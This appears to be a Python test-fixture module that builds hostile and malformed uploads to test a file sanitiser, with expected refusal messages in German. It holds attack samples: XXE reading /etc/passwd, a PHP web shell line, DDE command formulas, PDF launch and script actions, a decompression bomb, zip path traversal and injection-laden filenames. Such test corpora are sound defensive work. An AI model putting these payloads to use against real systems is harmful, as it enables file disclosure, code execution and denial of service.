# ruff: noqa: E501 - a table, a file a line
"""A corpus of hostile and unfit files, made here: (name, file name, content, words of the refusal, or None if made harmless)."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.adapters.uploads import samples

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT = "[Content_Types].xml"


@dataclass(frozen=True)
class Hostile:
    """`refused`: a part of the message; None: the file is taken, and none of `gone` is left in it."""

    filename: str
    data: bytes
    refused: str | None
    gone: tuple[bytes, ...] = ()


def archive(parts: dict[str, bytes], *, comment: bytes = b"") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        for name, body in parts.items():
            made.writestr(name, body)
        made.comment = comment
    return target.getvalue()


def docx(extra: dict[str, bytes] | None = None, *, body: bytes = b"<w:document xmlns:w='w'/>", comment: bytes = b"") -> bytes:
    return archive({CONTENT: b"<Types/>", "word/document.xml": body, **(extra or {})}, comment=comment)


def relation(kind: str, target: str, mode: str = "External") -> dict[str, bytes]:
    text = f'<Relationships><Relationship Id="r1" Type="{WORD}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return {"word/_rels/document.xml.rels": text.encode()}


def png(text: str = "") -> bytes:
    info, target = PngInfo(), io.BytesIO()
    if text:
        info.add_text("Comment", text)
    Image.new("RGB", (4, 4), "blue").save(target, "PNG", pnginfo=info)
    return target.getvalue()


def pdf_with(key: str, value: object, *, on_page: bool = False) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        (document.pages[0].obj if on_page else document.Root)[key] = value

    return samples.pdf(change=change)


def pdf_with_bomb() -> bytes:
    """Filters within filters: a few bytes that would unpack to gigabytes."""
    packed = zlib.compress(b"\0" * 30_000_000, 9)
    for _ in range(2):
        packed = zlib.compress(packed, 9)

    def change(document: pikepdf.Pdf) -> None:
        stream = document.make_stream(b"")
        stream.write(packed, filter=Array([Name.FlateDecode] * 3))
        document.pages[0].obj.Contents = stream

    return samples.pdf(change=change)


def nested_pdf(depth: int) -> bytes:
    body = b"[" * depth + b"]" * depth
    return b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def locked_script() -> bytes:
    """Opens without a password, and a script runs."""
    return samples.pdf(change=samples.with_script, encryption=pikepdf.Encryption(owner="besitz", user=""))


def quine() -> bytes:
    """A docx that holds a docx that holds a docx."""
    inner = docx()
    for _ in range(4):
        inner = docx({"word/embeddings/innen.docx": inner})
    return inner


def lying_size() -> bytes:
    """An archive whose directory promises less than is packed."""
    data = bytearray(docx({"word/a.xml": b"<a>" + b" " * 100_000 + b"</a>"}))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = data.rfind(mark)
        data[place + offset : place + offset + 4] = struct.pack("<I", 3)
    return bytes(data)


def encrypted_zip() -> bytes:
    data = bytearray(docx())
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        start = 0
        while (place := data.find(mark, start)) >= 0:
            data[place + offset] |= 1
            start = place + 4
    return bytes(data)


def twice() -> bytes:
    target = io.BytesIO(docx())
    with zipfile.ZipFile(target, "a") as made:
        made.writestr("WORD/DOCUMENT.XML", b"<other/>")
    return target.getvalue()


def _types() -> Iterator[Hostile]:
    wrong = "keinen zugelassenen Dateityp"
    for filename, data in (
        ("bild.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("seite.html", b"<script>alert(1)</script>"),
        ("programm.exe", b"MZ" + b"\0" * 200),
        ("eicar.com", EICAR),
        ("makro.docm", docx()),
        ("makro.xlsm", samples.xlsx()),
        ("alt.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        ("archiv.zip", archive({"a.txt": b"a"})),
        ("rechnung.pdf.exe", samples.pdf()),
        ("ohne-endung", samples.pdf()),
        ("mail.eml", b"From: a\n\nb"),
        ("skript.js", b"alert(1)"),
        ("verknuepfung.lnk", b"L\0\0\0"),
        ("gif.gif", b"GIF89a" + b"\0" * 100),
    ):
        yield Hostile(filename, data, wrong)
    yield Hostile("leer.pdf", b"", "0 Byte")
    yield Hostile("gross.pdf", b"%PDF-1.7\n" + b"0" * (10 * 1024 * 1024), "zu groß")


def _disguised() -> Iterator[Hostile]:
    for filename, data in (
        ("eicar.pdf", EICAR),
        ("programm.pdf", b"MZ" + b"\0" * 200),
        ("seite.pdf", b"<html><script>alert(1)</script>"),
        ("bild.pdf", png()),
        ("weit-hinten.pdf", b" " * 2_000 + samples.pdf()),
    ):
        yield Hostile(filename, data, "kein PDF")
    yield Hostile("vorn.pdf", b"<script>alert(1)</script>" + samples.pdf(), None, (b"<script>",))
    yield Hostile("svg.png", b"<svg onload='alert(1)'/>", "kein PNG-Bild")
    yield Hostile("pdf.jpg", samples.pdf(), "kein JPEG-Bild")
    yield Hostile("gif.png", b"GIF89a" + b"\0" * 100, "kein PNG-Bild")
    yield Hostile("php.jpg", b"<?php system($_GET[0]); ?>", "kein JPEG-Bild")
    yield Hostile("excel.docx", samples.xlsx(), "keine Word-Datei")
    yield Hostile("ole.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "keine Word-Datei")
    yield Hostile(
        "beides.docx", archive({CONTENT: b"<T/>", "xl/workbook.xml": b"<w/>", "word/document.xml": b"<d/>"}), "keine Word"
    )
    yield Hostile("java.xlsx", archive({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}), "keine Excel")


def _pictures() -> Iterator[Hostile]:
    yield Hostile("bombe.png", samples.png_of_size(30_000, 30_000), "zu viele Bildpunkte")
    yield Hostile("falsch.png", samples.png_of_size(3_000, 3_000), "beschädigt")
    yield Hostile("halb.png", png()[:40], "beschädigt")
    yield Hostile("halb.jpg", samples.photo()[:300], "beschädigt")
    yield Hostile("anhang.png", png() + b"<?php evil(); ?>", None, (b"<?php",))
    yield Hostile("archiv.png", png() + archive({"evil.exe": b"MZ"}), None, (b"PK\x03\x04", b"evil.exe"))
    yield Hostile("text.png", png("<script>alert(1)</script>"), None, (b"<script>",))
    yield Hostile("ort.jpg", samples.photo(), None, (b"51.838", b"Exif"))
    yield Hostile("html.jpg", samples.photo() + b"<html><script>", None, (b"<script>",))


def _pdfs() -> Iterator[Hostile]:
    damaged = "beschädigt"
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(4711)"))
    yield Hostile("skript.pdf", samples.pdf(change=samples.with_script), None, (b"app.alert",))
    yield Hostile("alles.pdf", samples.pdf(change=samples.with_everything), None, (b"cmd.exe", b"geheim.txt", b"/etc/passwd"))
    yield Hostile("seite-skript.pdf", pdf_with("/AA", Dictionary(O=script), on_page=True), None, (b"4711",))
    yield Hostile("start.pdf", pdf_with("/OpenAction", Dictionary(S=Name.Launch, F=String("calc.exe"))), None, (b"calc.exe",))
    yield Hostile(
        "formular.pdf",
        pdf_with("/OpenAction", Dictionary(S=Name.SubmitForm, F=String("http://x.invalid"))),
        None,
        (b"x.invalid",),
    )
    yield Hostile("zip.pdf", samples.pdf() + archive({"evil.exe": b"MZ"}), None, (b"PK\x03\x04", b"evil.exe"))
    yield Hostile("html.pdf", samples.pdf() + b"<script>alert(1)</script>", None, (b"<script>",))
    yield Hostile("zu-mit-skript.pdf", locked_script(), None, (b"app.alert",))
    yield Hostile("zu.pdf", samples.encrypted_pdf(), "Kennwort")
    yield Hostile("halb.pdf", samples.pdf()[:120], damaged)
    yield Hostile("kopf.pdf", b"%PDF-1.7\n%%EOF", damaged)
    yield Hostile("tief.pdf", nested_pdf(20_000), damaged)
    yield Hostile("bombe.pdf", pdf_with_bomb(), None)


def _office() -> Iterator[Hostile]:
    macros = "Makros"
    xxe = b"<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><d>&x;</d>"
    lol = b"<!DOCTYPE d [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><d>&b;</d>"
    yield Hostile("xxe.docx", docx(body=xxe), "Dokumenttyp-Definition")
    yield Hostile("lachen.docx", docx(body=lol), "Dokumenttyp-Definition")
    yield Hostile("utf16.docx", docx(body=xxe.decode().encode("utf-16")), "Dokumenttyp-Definition")
    yield Hostile("xxe-rels.docx", docx({"_rels/.rels": xxe}), "Dokumenttyp-Definition")
    yield Hostile("vba.docx", docx({"word/vbaProject.bin": b"x"}), macros)
    yield Hostile(
        "typ.xlsx",
        samples.xlsx(
            extra={
                CONTENT: b"<T><Override PartName='/xl/workbook.xml' ContentType='application/vnd.ms-excel.sheet.macroEnabled.main+xml'/></T>"
            }
        ),
        macros,
    )
    yield Hostile("xlm.xlsx", samples.xlsx(extra={"xl/macrosheets/sheet1.xml": b"<s/>"}), macros)
    yield Hostile(
        "activex.docx", docx({"word/activeX/activeX1.xml": b"<a/>", "word/activeX/activeX1.bin": b"4711"}), None, (b"4711",)
    )
    yield Hostile("ole.docx", docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), None, (b"\xd0\xcf",))
    yield Hostile("exe.docx", docx({"word/embeddings/a.exe": b"MZ4711"}), None, (b"MZ4711",))
    yield Hostile("eicar.docx", docx({"word/media/eicar.com": EICAR}), None, (EICAR,))
    yield Hostile("html.docx", docx({"word/afchunk.mht": b"<html>"}), None, (b"<html>",))
    yield Hostile(
        "teil.docx", docx({"word/afchunk.mht": b"<html>", **relation("aFChunk", "afchunk.mht", "Internal")}), "zusammengesetzt"
    )
    yield Hostile("vorlage.docx", docx(relation("attachedTemplate", "http://x.invalid/v.dotm")), None, (b"x.invalid",))
    yield Hostile("bild.docx", docx(relation("image", "http://x.invalid/pixel.png")), None, (b"x.invalid",))
    yield Hostile("pfad.docx", docx(relation("hyperlink", "file:///c:/windows/calc.exe")), None, (b"calc",))
    for number, kind in enumerate(("externalLinkPath", "xlPathMissing", "oleObject", "package", "video", "neuerfunden")):
        outside = relation(kind, "http://x.invalid/a").popitem()[1]
        yield Hostile(
            f"aussen{number}.xlsx", samples.xlsx(extra={"xl/_rels/workbook.xml.rels": outside}), None, (b"x.invalid",)
        )
    yield Hostile(
        "dde.docx",
        docx(body=b"<d xmlns:w='w'><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\cmd</w:instrText></d>"),
        None,
        (b"EAUTO",),
    )
    yield Hostile("dde.xlsx", samples.xlsx(extra={"xl/s.xml": b"<s><f>cmd|'/c calc'!A0</f></s>"}), None, (b"calc",))
    yield Hostile("dde-name.xlsx", samples.xlsx(extra={"xl/externalLinks/e.xml": b"<e><ddeLink ddeService='cmd'/></e>"}), "DDE")
    yield Hostile("bombe.docx", samples.docx_bomb(), "zu groß")
    yield Hostile("teile.docx", docx({f"word/{n}.xml": b"" for n in range(5_001)}), "zu groß")
    yield Hostile("quine.docx", quine(), "verschachtelte")
    yield Hostile("groesse.docx", lying_size(), "beschädigt")
    yield Hostile("kennwort.docx", encrypted_zip(), "mit Kennwort geschützt")
    yield Hostile("doppelt.docx", twice(), "nicht wie eine Office-Datei")
    yield Hostile("pfad-auf.docx", docx({"../../etc/cron.d/x": b"x"}), "nicht wie eine Office-Datei")
    yield Hostile("pfad-ab.docx", docx({"/etc/passwd": b"x"}), "nicht wie eine Office-Datei")
    yield Hostile("kaputt.docx", docx(body=b"<a><b></a>"), "beschädigt")
    yield Hostile("halb.docx", docx()[:-30], "keine Word-Datei")
    yield Hostile("mitten.docx", b"PK\x03\x04" + b"\0" * 400, "keine Word-Datei")
    yield Hostile("kommentar.docx", docx(comment=b"<script>alert(1)</script>"), None, (b"<script>",))


def _names() -> Iterator[Hostile]:
    """Good content under odd names: taken, under a name that harms nobody."""
    for filename in (
        "Beschlu\u0308sse.pdf",
        "\u202efdp.exe.pdf",
        "../../etc/passwd.pdf",
        "C:\\Windows\\system32\\a.pdf",
        "CON.pdf",
        "nul.txt.pdf",
        "a\0b.pdf",
        "zeile\r\nSet-Cookie: a=b.pdf",
        "<script>alert(1)</script>.pdf",
        ".pdf",
        "…" * 300 + ".pdf",
        "\u200b\ufeff.pdf",
        "a.PDF",
        "punkt.pdf.",
        "=cmd|calc!A0.pdf",
    ):
        yield Hostile(filename, samples.pdf(), None)


def corpus() -> tuple[Hostile, ...]:
    return (*_types(), *_disguised(), *_pictures(), *_pdfs(), *_office(), *_names())
